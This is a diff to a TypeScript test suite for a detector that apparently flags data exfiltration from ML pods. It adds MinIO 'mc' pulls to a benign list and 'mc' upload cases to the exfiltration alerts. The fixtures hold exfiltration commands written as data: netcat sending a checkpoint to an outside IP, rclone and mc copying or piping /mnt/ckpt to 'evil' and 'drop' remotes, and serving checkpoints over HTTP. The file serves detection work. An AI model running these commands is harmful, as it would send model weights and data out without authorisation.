@@ -5,7 +5,7 @@
  * high alert before attrs.exec.toolWords: a tool's option read from another command (`grep -F`,
  * `df -F`, `sort -T`, `wget -T`), a port check (`nc -z`, `nc -zw1`), netcat named but not run, an scp pull, a bucket download, the service account's public
  * files, a filtered environment listing, a checkpoint named by a command that packs nothing, a
- * request body posted to a model server on the pod's loopback, an rclone pull. The
+ * request body posted to a model server on the pod's loopback, an rclone or mc pull. The
  * credential reads and uploads beside them still alert.
  */
 import { readFileSync } from 'node:fs';
@@ -73,6 +73,9 @@ const EVERYDAY: string[][] = [
     'rclone copy s3:datasets/shard-01 /data --transfers 8 -P',
     'rclone sync gcs:ml-data/v3 /data/v3 --fast-list && rclone check gcs:ml-data/v3 /data/v3',
     'rclone lsd remote: && rclone size s3:ml-ckpt/llama',
+    // Data pulled from the cluster's MinIO with mc (a copy to a target an alias may name still alerts).
+    'mc cp --recursive minio/datasets/shard-01 /data/',
+    'mc mirror minio/ml-data/v3 /data/v3 --exclude "*.tmp" && mc ls minio/ml-data',
   ].map(sh),
 ];
 
@@ -104,7 +107,7 @@ describe('the credential reads and uploads beside them still alert', () => {
     ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-RAY-010');
   });
 
-  it('netcat sending, scp pushing (also beside a port check), copies to a bucket, rclone sending (MLS-EXFIL-014)', () => {
+  it('netcat sending, scp pushing (also beside a port check), copies to a bucket, rclone and mc sending (MLS-EXFIL-014)', () => {
     for (const argv of [
       ['nc', '203.0.113.5', '9000'],
       sh('nc 203.0.113.5 9000 < /mnt/ckpt/model.pt'),
@@ -124,6 +127,8 @@ describe('the credential reads and uploads beside them still alert', () => {
       sh('rclone sync s3-corp:ckpt evil:x'),
       sh('tar c /mnt/ckpt | rclone rcat evil:x.tar'),
       sh('rclone serve http /mnt/ckpt --addr :8080'),
+      sh('mc cp --recursive /mnt/ckpt/llama drop/b/x'),
+      sh('tar c /mnt/ckpt | mc pipe drop/b/c.tar'),
     ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
   });
 
